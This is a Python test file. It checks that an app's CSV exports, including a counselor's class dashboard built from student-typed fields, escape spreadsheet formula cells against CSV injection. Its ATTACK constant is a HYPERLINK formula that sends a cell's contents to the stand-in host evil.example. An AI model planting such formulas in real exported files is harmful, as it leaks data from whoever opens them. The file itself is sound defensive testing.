"""Every CSV the app writes neutralises formula cells (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io

import pandas as pd

from explorer import classes, exports
from tests.test_privacy import _class

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_text_cells_starting_like_a_formula_are_neutralised_and_numbers_are_not():
    frame = pd.DataFrame({"name": [ATTACK, "+1 555", "-cmd", "@SUM(A1)", "\tx", "\rx", "plain"],
                          "growth": [-2.5, 1.0, 0.0, 3.0, -1.0, 2.0, 4.0]})
    rows = list(csv.reader(io.StringIO(exports.frame_csv(frame, index=False), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + ATTACK, "'+1 555", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "plain"]
    assert [r[1] for r in rows[1:]] == ["-2.5", "1.0", "0.0", "3.0", "-1.0", "2.0", "4.0"]
    text = exports.rows_csv(["a", "b"], [{"a": ATTACK, "b": "-12.5"}])
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + ATTACK, "-12.5"]


def test_a_class_field_typed_by_students_lands_neutralised_in_the_counselors_csv(database_url, kb):
    class_code = _class(database_url, [ATTACK] * 10 + ["North"] * 10, [9] * 20)
    tables = classes.dashboard(kb, class_code, "0012420", by="campus", url=database_url)
    assert ATTACK in tables["completion"].index  # 10 students typed it: a group the page may list
    cells = [cell for row in csv.reader(io.StringIO(classes.export_csv(tables))) for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells
    assert not [c for c in cells if c[:1] in exports.FORMULA_STARTS]
